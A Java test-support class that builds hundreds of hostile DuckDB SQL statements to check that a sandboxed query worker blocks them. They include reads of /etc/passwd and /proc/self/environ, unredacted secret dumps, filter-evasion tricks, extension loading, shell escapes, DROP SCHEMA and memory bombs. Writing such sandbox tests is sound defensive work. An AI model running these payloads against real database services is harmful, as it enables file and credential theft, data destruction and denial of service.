package org.vauban.worker;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SequencedMap;

/**
 * Statements that try to read, write, call, start, change or spy on what is not theirs. Families of them are made from the engine's
 * readers, writers and settings, and from the ways to say one thing differently; the rest is written out.
 *
 * <p>Whatever is "outside" is a folder of the test: files with a canary in them, and room to write.
 */
final class HostileStatements {
    private static final List<String> READERS = List.of(
            "read_text",
            "read_blob",
            "read_csv",
            "read_csv_auto",
            "read_json",
            "read_json_auto",
            "read_json_objects",
            "read_ndjson",
            "read_ndjson_objects",
            "read_parquet",
            "parquet_scan",
            "parquet_metadata",
            "parquet_schema",
            "parquet_file_metadata",
            "parquet_kv_metadata",
            "sniff_csv",
            "glob");

    /** Each with a value that would open something; {@code {to}} is where a test may write. */
    private static final List<String> SETTINGS = List.of(
            "enable_external_access = true",
            "lock_configuration = false",
            "allowed_directories = ['/']",
            "allowed_paths = ['/etc/passwd']",
            "disabled_filesystems = ''",
            "allow_unsigned_extensions = true",
            "allow_community_extensions = true",
            "autoload_known_extensions = true",
            "autoinstall_known_extensions = true",
            "allow_persistent_secrets = true",
            "allow_unredacted_secrets = true",
            "custom_extension_repository = 'http://127.0.0.1:1'",
            "autoinstall_extension_repository = 'http://127.0.0.1:1'",
            "extension_directory = '{to}'",
            "home_directory = '{to}'",
            "secret_directory = '{to}'",
            "temp_directory = '{to}'",
            "max_temp_directory_size = '1TB'",
            "memory_limit = '1TB'",
            "threads = 512",
            "worker_threads = 512",
            "external_threads = 1",
            "log_query_path = '{to}set.log'",
            "profiling_output = '{to}set.json'",
            "enable_profiling = 'json'",
            "enable_logging = true",
            "logging_storage = 'file'",
            "file_search_path = '/etc'",
            "http_proxy = 'http://127.0.0.1:1'",
            "errors_as_json = false",
            "enable_object_cache = true",
            "default_secret_storage = 'local_file'",
            "access_mode = 'read_write'",
            "allocator_background_threads = true",
            "password = 'x'",
            "TimeZone = '/etc/passwd'",
            "Calendar = 'x'",
            "search_path = 'temp'",
            "schema = 'temp'",
            "streaming_buffer_size = '1TB'");

    private final Path outside;
    private final int port;
    private final SequencedMap<String, String> all = new LinkedHashMap<>();

    private HostileStatements(Path outside, int port) {
        this.outside = outside;
        this.port = port;
    }

    /**
     * All of them by their names.
     *
     * @param outside a folder with {@code secret.csv}, {@code .json}, {@code .parquet}, {@code .txt}, {@code .db}, a link to each, and a folder
     *     {@code written}
     * @param port where somebody on this machine listens for what should not come
     */
    static Map<String, String> all(Path outside, int port) {
        var statements = new HostileStatements(outside, port);
        statements.readersTimesPlaces();
        statements.sameThingDifferently();
        statements.filesAsTables();
        statements.writers();
        statements.settings();
        statements.extensionsAndNetwork();
        statements.spies();
        statements.tricksOfText();
        statements.oraclesOfErrors();
        statements.smallBombs();
        return statements.all;
    }

    private void readersTimesPlaces() {
        List<String> places = List.of(
                outside + "/secret.csv",
                outside + "/secret.json",
                outside + "/secret.parquet",
                outside + "/*",
                outside + "/../" + outside.getFileName() + "/secret.csv",
                outside + "/link-to-secret.csv",
                "file://" + outside + "/secret.csv",
                "/etc/passwd",
                "/proc/self/environ",
                "/proc/self/maps",
                "/proc/1/root/etc/passwd",
                "/dev/stdin",
                "/proc/self/fd/0",
                "worker.jar");
        for (String reader : READERS) {
            for (String place : places) {
                add(reader + " " + place, "SELECT * FROM " + reader + "('" + place + "')");
            }
        }
    }

    private void sameThingDifferently() {
        for (String kind : List.of("csv", "txt", "json")) {
            String file = outside + "/secret." + kind;
            String read = "SELECT * FROM read_text('" + file + "')";
            List<String> ways = new ArrayList<>(List.of(
                    "SELECT (SELECT content FROM read_text('%s'))".formatted(file),
                    "SELECT count(*) FROM read_text('%s') WHERE content LIKE '%%CANARY%%'".formatted(file),
                    "WITH t AS (%s) SELECT * FROM t".formatted(read),
                    "WITH t AS MATERIALIZED (%s) SELECT * FROM t, person".formatted(read),
                    "WITH RECURSIVE t AS (SELECT content FROM read_text('%s') UNION ALL SELECT content FROM t WHERE false) SELECT * FROM t"
                            .formatted(file),
                    "SELECT * FROM person p, LATERAL (%s) t".formatted(read),
                    "SELECT * FROM person UNION ALL BY NAME %s".formatted(read),
                    "SELECT EXISTS (%s)".formatted(read),
                    "SELECT * FROM query('%s')".formatted(read.replace("'", "''")),
                    "SELECT * FROM query_table('%s')".formatted(file),
                    "SELECT * FROM query_table(['%s'])".formatted(file),
                    "SELECT * FROM \"read_text\"('%s')".formatted(file),
                    "SELECT * FROM ReAd_TeXt('%s')".formatted(file),
                    "SELECT * FROM system.main.read_text('%s')".formatted(file),
                    "SELECT * FROM main.read_text('%s')".formatted(file),
                    "SELECT/**/*/**/FROM/**/read_text/**/('%s')".formatted(file),
                    "SELECT * FROM read_text($$%s$$)".formatted(file),
                    "SELECT * FROM read_text($a$%s$a$)".formatted(file),
                    "SELECT * FROM read_text(E'%s')".formatted(file.replace("/", "\\x2f")),
                    "SELECT * FROM read_text('%s' || '%s')".formatted(file.substring(0, 5), file.substring(5)),
                    "SELECT * FROM read_text(concat('%s', '%s'))".formatted(file.substring(0, 5), file.substring(5)),
                    "SELECT * FROM read_text(reverse('%s'))".formatted(new StringBuilder(file).reverse()),
                    "SELECT * FROM read_text(['%s', '/etc/passwd'])".formatted(file),
                    "SELECT * FROM read_text(list_transform(['%s'], x -> x))".formatted(file),
                    "SELECT * FROM read_text(getvariable('f'))",
                    "SET VARIABLE f = '%s'; SELECT * FROM read_text(getvariable('f'))".formatted(file),
                    "PREPARE p AS %s; EXECUTE p".formatted(read),
                    "PREPARE p AS SELECT * FROM read_text(?); EXECUTE p('%s')".formatted(file),
                    "CREATE MACRO m(f) AS TABLE SELECT * FROM read_text(f); SELECT * FROM m('%s')".formatted(file),
                    "CREATE TEMP MACRO m() AS (SELECT content FROM read_text('%s')); SELECT m()".formatted(file),
                    "CREATE VIEW v AS %s; SELECT * FROM v".formatted(read),
                    "CREATE TABLE t AS %s; SELECT * FROM t".formatted(read),
                    "INSERT INTO person SELECT 1, length(content) FROM read_text('%s'); SELECT * FROM person"
                            .formatted(file),
                    "EXPLAIN ANALYZE %s".formatted(read),
                    "EXPLAIN %s".formatted(read),
                    "DESCRIBE %s".formatted(read),
                    "SUMMARIZE %s".formatted(read),
                    "FROM read_text('%s')".formatted(file),
                    "FROM read_text('%s') SELECT content".formatted(file),
                    "TABLE read_text('%s')".formatted(file),
                    "VALUES ((SELECT content FROM read_text('%s')))".formatted(file),
                    "CALL read_text('%s')".formatted(file),
                    "SELECT * FROM (%s) PIVOT (count(*) FOR filename IN ('a'))".formatted(read),
                    "SELECT json_execute_serialized_sql(json_serialize_sql('%s'))".formatted(read.replace("'", "''")),
                    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('%s'))"
                            .formatted(read.replace("'", "''")),
                    "PRAGMA json_execute_serialized_sql(json_serialize_sql('%s'))".formatted(read.replace("'", "''")),
                    "SELECT * FROM read_csv('%s', columns = {'a': 'VARCHAR'}, delim = '|', header = false)"
                            .formatted(file),
                    "SELECT * FROM read_csv('%s', all_varchar = true, ignore_errors = true, store_rejects = true)"
                            .formatted(file)));
            for (int way = 0; way < ways.size(); way++) {
                add("read otherwise " + kind + " " + way, ways.get(way));
            }
        }
    }

    private void filesAsTables() {
        for (String kind : List.of("csv", "json", "parquet", "db", "txt")) {
            String file = outside + "/secret." + kind;
            add("file as table " + kind, "SELECT * FROM '" + file + "'");
            add("file as quoted name " + kind, "SELECT * FROM \"" + file + "\"");
            add("attach " + kind, "ATTACH '" + file + "' AS other; SELECT * FROM other.secret");
            add(
                    "attach read only " + kind,
                    "ATTACH '" + file + "' AS other (READ_ONLY); SELECT * FROM other.main.secret");
            add("attach by type " + kind, "ATTACH '" + file + "' (TYPE sqlite)");
            add("copy from " + kind, "COPY person FROM '" + file + "'");
            add("use " + kind, "ATTACH '" + file + "' AS other; USE other; SELECT * FROM secret");
        }
        add("import", "IMPORT DATABASE '" + outside + "/exported'");
        add("attach or replace", "ATTACH OR REPLACE '" + outside + "/secret.db' AS memory");
        add("detach what is here", "DETACH memory; SELECT * FROM person");
        add(
                "copy between",
                "ATTACH '" + outside
                        + "/secret.db' AS other; COPY FROM DATABASE other TO memory; SELECT * FROM secret");
    }

    private void writers() {
        String to = outside + "/written/";
        for (String kind : List.of("csv", "json", "parquet")) {
            add("copy query to " + kind, "COPY (SELECT 42) TO '" + to + "query." + kind + "' (FORMAT " + kind + ")");
            add("copy table to " + kind, "COPY person TO '" + to + "table." + kind + "' (FORMAT " + kind + ")");
            add(
                    "copy with temporary file to " + kind,
                    "COPY person TO '" + to + "t2." + kind + "' (USE_TMP_FILE true)");
            add(
                    "copy partitioned to " + kind,
                    "COPY person TO '" + to + "parts-" + kind + "' (FORMAT " + kind + ", PARTITION_BY (person_id))");
            add(
                    "copy per thread to " + kind,
                    "COPY person TO '" + to + "threads-" + kind + "' (FORMAT " + kind + ", PER_THREAD_OUTPUT true)");
            add("export as " + kind, "EXPORT DATABASE '" + to + "export-" + kind + "' (FORMAT " + kind + ")");
            add("overwrite " + kind, "COPY (SELECT 1) TO '" + outside + "/secret." + kind + "' (OVERWRITE true)");
            add("copy after comment to " + kind, "SELECT 1; /* */ COPY person TO '" + to + "comment." + kind + "'");
        }
        add(
                "attach a new file",
                "ATTACH '" + to + "new.db' AS other; CREATE TABLE other.t AS SELECT 1 AS a; CHECKPOINT other");
        add(
                "attach an encrypted file",
                "ATTACH '" + to + "secret.db' AS other (ENCRYPTION_KEY 'k'); CREATE TABLE other.t (a INT)");
        add("copy to standard output", "COPY person TO '/dev/stdout'");
        add("copy to the pipe", "COPY person TO '/proc/self/fd/1' (FORMAT csv)");
        add("copy to home", "SET home_directory = '" + to + "'; COPY person TO '~/home.csv'");
        add("copy database", "ATTACH '" + to + "copy.db' AS other; COPY FROM DATABASE memory TO other");
        add(
                "profile into a file",
                "SET enable_profiling = 'json'; SET profiling_output = '" + to
                        + "profile.json'; SELECT count(*) FROM person");
        add(
                "profile by pragma",
                "PRAGMA enable_profiling = 'json'; PRAGMA profiling_output = '" + to + "profile2.json'; SELECT 1");
        add("log queries", "SET log_query_path = '" + to + "queries.log'; SELECT 1");
        add(
                "log into a file",
                "CALL enable_logging(storage = 'file', storage_path = '" + to
                        + "logs'); SELECT * FROM person; CALL disable_logging()");
        add(
                "spill",
                "SET temp_directory = '" + to
                        + "spill'; SET memory_limit = '20MB'; SELECT count(*) FROM (SELECT range AS a, md5(range::VARCHAR) AS b FROM range(2000000) ORDER BY b)");
        add(
                "keep a secret",
                "SET secret_directory = '" + to + "secrets'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')");
        add(
                "store rejects",
                "SELECT * FROM read_csv('" + outside + "/secret.csv', rejects_table = 'r', store_rejects = true)");
    }

    private void settings() {
        String read = "; SELECT * FROM read_text('" + outside + "/secret.txt')";
        for (String wanted : SETTINGS) {
            String setting = wanted.replace("{to}", outside + "/written/");
            String name = setting.substring(0, setting.indexOf(' '));
            add("set " + name, "SET " + setting + read);
            add("set global " + name, "SET GLOBAL " + setting + read);
            add("pragma " + name, "PRAGMA " + setting + read);
            add("reset " + name, "RESET " + name + read);
            add("ask " + name, "SELECT current_setting('" + name + "')");
        }
    }

    private void extensionsAndNetwork() {
        String here = "http://127.0.0.1:" + port;
        String home = "SET home_directory = '" + outside + "/written'; SET extension_directory = '" + outside
                + "/written/extensions'; ";
        String repository = home + "SET custom_extension_repository = '" + here + "'; ";
        for (String extension : List.of(
                "httpfs", "sqlite", "postgres", "mysql", "spatial", "excel", "aws", "azure", "shellfs", "fts")) {
            add("install " + extension, repository + "INSTALL " + extension);
            add("install and load " + extension, repository + "FORCE INSTALL " + extension + "; LOAD " + extension);
            add("load " + extension, "LOAD " + extension);
            add("install from here " + extension, home + "INSTALL " + extension + " FROM '" + here + "'");
        }
        add("load a library", "LOAD '" + outside + "/secret.txt'");
        add("load any library", "SET allow_unsigned_extensions = true; LOAD '/lib/x86_64-linux-gnu/libc.so.6'");
        add("load the engine", "LOAD 'libduckdb_java.so'");
        for (String reader : List.of("read_csv", "read_parquet", "read_json", "read_text", "read_blob")) {
            for (String scheme : List.of(
                    here + "/a",
                    "https://127.0.0.1:" + port + "/a",
                    "s3://127.0.0.1/a",
                    "gcs://b/a",
                    "r2://b/a",
                    "hf://datasets/a/b",
                    "azure://c/a",
                    "ftp://127.0.0.1/a")) {
                add(
                        reader + " " + scheme,
                        repository + "SET autoinstall_known_extensions = true; SELECT * FROM " + reader + "('" + scheme
                                + "')");
                add(reader + " plainly " + scheme, "SELECT * FROM " + reader + "('" + scheme + "')");
            }
        }
        add("attach over the network", repository + "ATTACH '" + here + "/a.db' AS other");
        add("attach a server", repository + "ATTACH 'host=127.0.0.1 port=" + port + "' AS other (TYPE postgres)");
        add("copy to the network", repository + "COPY person TO '" + here + "/a.csv'");
        add("make a secret", "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT '127.0.0.1:" + port + "')");
        add("call a server", repository + "SELECT http_get('" + here + "')");
        add("update extensions", repository + "UPDATE EXTENSIONS");
        add("start pages", "CALL start_ui()");
        add("start a server", "CALL start_ui_server()");
    }

    private void spies() {
        for (String asked : List.of(
                "SELECT getenv('PATH')",
                "SELECT getenv('HOME')",
                "SELECT * FROM duckdb_secrets()",
                "SELECT * FROM duckdb_secrets(redact = false)",
                "SELECT which_secret('s3://a', 's3')",
                "SELECT * FROM duckdb_settings()",
                "SELECT * FROM duckdb_databases()",
                "SELECT * FROM duckdb_extensions()",
                "SELECT * FROM duckdb_temporary_files()",
                "SELECT * FROM duckdb_memory()",
                "SELECT * FROM duckdb_logs",
                "SELECT * FROM duckdb_log_contexts()",
                "SELECT * FROM duckdb_prepared_statements()",
                "SELECT * FROM duckdb_external_file_cache()",
                "SELECT * FROM pragma_database_list",
                "SELECT * FROM pragma_storage_info('person')",
                "PRAGMA database_list",
                "PRAGMA platform",
                "PRAGMA user_agent",
                "PRAGMA version",
                "SELECT * FROM pragma_platform()",
                "SELECT * FROM pragma_version()",
                "SELECT current_database(), current_schema(), current_user, session_user",
                "SELECT * FROM information_schema.tables",
                "SELECT * FROM information_schema.columns",
                "SELECT * FROM sqlite_master",
                "SELECT * FROM pg_catalog.pg_settings",
                "SELECT * FROM pg_catalog.pg_authid",
                "SELECT txid_current()",
                "SELECT * FROM test_all_types()",
                "SELECT * FROM repeat_row(1, num_rows = 3)",
                "SELECT * FROM checkpoint()",
                "SELECT * FROM force_checkpoint()",
                "SELECT write_log('CANARY')",
                "SELECT * FROM enable_logging(storage = 'stdout')",
                "CALL enable_logging(storage = 'stdout', level = 'trace')",
                "SELECT nextval('s')",
                "SELECT * FROM add_parquet_key('k', '0123456789112345')",
                "PRAGMA add_parquet_key('k', '0123456789112345')",
                "SELECT * FROM seq_scan('person')",
                "SELECT * FROM arrow_scan(1, 2, 3)",
                "SELECT * FROM arrow_scan_dumb(94000000000000, 94000000000000, 94000000000000)",
                "SELECT * FROM python_map_function(1)",
                "SELECT * FROM pandas_scan(1)",
                "SELECT * FROM sqlsmith()",
                "SELECT * FROM reduce_sql_statement('SELECT 1')")) {
            add("spy " + asked, asked);
        }
    }

    private void tricksOfText() {
        String read = "SELECT * FROM read_text('" + outside + "/secret.txt')";
        for (String text : List.of(
                "SELECT 1; " + read,
                "SELECT 1;" + read + ";",
                ";;;" + read,
                "SELECT 1 -- \n; " + read,
                "SELECT 1 /* ; */; " + read,
                "SELECT 1 /* /* nested */ */; " + read,
                "\uFEFF" + read,
                "\u00A0" + read,
                "\u200B" + read,
                "SELECT 1\u0000; " + read,
                read.replace("SELECT", "\uFF33\uFF25\uFF2C\uFF25\uFF23\uFF34"),
                read.replace("read_text", "re\u0430d_text"),
                read.replace("read_text", "U&\"read\\005Ftext\""),
                read.replace("'", "\u2019"),
                "SELECT '" + "x".repeat(100) + "'; " + read,
                "BEGIN; " + read + "; COMMIT",
                "BEGIN TRANSACTION; DROP TABLE person; ROLLBACK; " + read,
                "CREATE OR REPLACE TABLE person AS " + read + "; SELECT * FROM person",
                "ALTER TABLE person ADD COLUMN c VARCHAR; UPDATE person SET c = (SELECT content FROM read_text('"
                        + outside + "/secret.txt')); SELECT * FROM person",
                "DELETE FROM person RETURNING *",
                "DROP TABLE person",
                "DROP SCHEMA main CASCADE",
                "TRUNCATE person",
                "VACUUM; " + read,
                "ANALYZE; " + read,
                "CREATE SEQUENCE s; SELECT nextval('s')",
                "CREATE TYPE t AS ENUM (" + read + ")",
                "CREATE FUNCTION f() AS (SELECT content FROM read_text('" + outside + "/secret.txt')); SELECT f()",
                "COMMENT ON TABLE person IS 'x'; " + read,
                "SELECT ?",
                "SELECT $1",
                "SELECT * FROM person WHERE person_id = $person",
                "EXECUTE p",
                "DEALLOCATE p",
                "CALL pragma_table_info('person')",
                "SHOW ALL TABLES",
                "SHOW TABLES FROM other",
                "USE temp",
                "LOAD DATA INFILE '/etc/passwd' INTO TABLE person",
                "\\copy person to /tmp/x",
                ".shell id",
                ".read /etc/passwd",
                "!id",
                "",
                " ",
                ";",
                "--",
                "(" + "(".repeat(2_000) + "SELECT 1" + ")".repeat(2_001),
                "SELECT " + "-".repeat(1).concat(" - ".repeat(3_000)) + "1",
                "SELECT " + "1 + ".repeat(5_000) + "1",
                "SELECT '" + "x".repeat(1_000_000) + "'",
                "SELECT " + "1, ".repeat(20_000) + "1")) {
            add("text " + all.size(), text);
        }
    }

    private void oraclesOfErrors() {
        for (String oracle : List.of(
                "SELECT CAST(year_of_birth::VARCHAR || 'x' AS INT) FROM person",
                "SELECT 1 / (SELECT min(year_of_birth) - min(year_of_birth) FROM person)",
                "SELECT error('a value: ' || (SELECT max(year_of_birth) FROM person))",
                "SELECT error((SELECT content FROM read_text('" + outside + "/secret.txt')))",
                "SELECT strptime('not a day ' || person_id, '%Y') FROM person",
                "SELECT CAST('[' || person_id AS INT[]) FROM person",
                "SELECT json_extract('not json ' || person_id, '$.a') FROM person",
                "SELECT regexp_matches('a', '(' || person_id) FROM person",
                "SELECT (SELECT person_id FROM person)",
                "SELECT * FROM person WHERE person_id = (SELECT person_id FROM person)",
                "SELECT printf('%d', 'x' || person_id) FROM person",
                "SELECT format('{', person_id) FROM person",
                "SELECT person_id::TINYINT FROM person",
                "SELECT chr(2000000000 + person_id::INT) FROM person",
                "SELECT * FROM range(9223372036854775807, 0, 0)",
                "SELECT array_value(1, 2)[person_id::INT]::INT[5] FROM person")) {
            add("oracle " + oracle, oracle);
        }
    }

    /** Bombs that the engine itself stops; those that only the kernel or the clock stops are tried in workers of their own. */
    private void smallBombs() {
        for (String bomb : List.of(
                "SELECT repeat('x', 9000000000)",
                "SELECT string_agg(repeat('x', 1000000), '') FROM range(1000)",
                "SELECT list(range) FROM range(100000000)",
                "SELECT range(1000000000)",
                "SELECT * FROM range(1000000000)",
                "SELECT generate_series(1, 1000000000)",
                "SELECT histogram(range) FROM range(10000000)",
                "SELECT array_agg(md5(range::VARCHAR)) FROM range(5000000)",
                "SELECT map_from_entries(list((range, range))) FROM range(10000000)",
                "SELECT '1'::BIT << 2000000000",
                "SELECT 10::HUGEINT ** 1000000")) {
            add("bomb " + bomb, bomb);
        }
    }

    private void add(String name, String sql) {
        if (all.put(name, sql) != null) {
            throw new AssertionError("two statements of one name: " + name);
        }
    }
}
